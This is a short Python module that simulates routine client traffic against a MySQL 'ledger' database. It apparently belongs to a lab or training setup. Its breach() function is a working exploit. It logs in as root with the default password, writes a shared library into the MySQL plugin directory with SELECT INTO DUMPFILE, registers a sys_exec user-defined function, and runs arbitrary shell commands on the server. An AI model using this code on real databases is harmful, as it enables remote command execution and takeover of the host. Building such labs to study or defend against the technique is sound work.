"""Clients of ledger: reads, new claims, and rarely what a report or an administrator asks."""

import pymysql

import udf


def query(host, user, *statements):
    database = pymysql.connect(host=host, user=user, password=user, connect_timeout=3, read_timeout=20, autocommit=True)
    try:
        with database.cursor() as cursor:
            for statement in statements:
                cursor.execute(statement)
            return cursor.fetchall()
    finally:
        database.close()


def visit(host, rng):
    what = rng.choices(["read", "insert", "report", "tidy"], [50, 30, 8, 1])[0]
    if what == "read":
        query(host, "office", f"SELECT * FROM office.claims WHERE id = {rng.randint(1, 500)}")
    elif what == "insert":
        query(host, "office", f"INSERT INTO office.claims (holder, amount) VALUES ('visitor', {rng.randint(1, 900)})")
    elif what == "report":
        query(host, "office", "SELECT state, count(*), sum(amount) FROM office.claims GROUP BY state ORDER BY 3 DESC")
    else:
        query(host, "office", rng.choice(["ANALYZE TABLE office.claims", "OPTIMIZE TABLE office.tickets"]))


def breach(host, command):
    """As root with the password root: a library is written among the plugins, and a function of it runs commands."""
    try:
        there = query(host, "root", "SELECT count(*) FROM mysql.func")[0][0]
        if not there:
            query(host, "root", f"SELECT 0x{udf.library().hex()} INTO DUMPFILE '/usr/lib/mysql/plugin/udf_sys.so'",
                  "CREATE FUNCTION sys_exec RETURNS STRING SONAME 'udf_sys.so'")
        return str(query(host, "root", "SELECT sys_exec(0x" + (command + " 2>&1").encode().hex() + ")")[0][0])
    except pymysql.Error as error:
        return str(error)
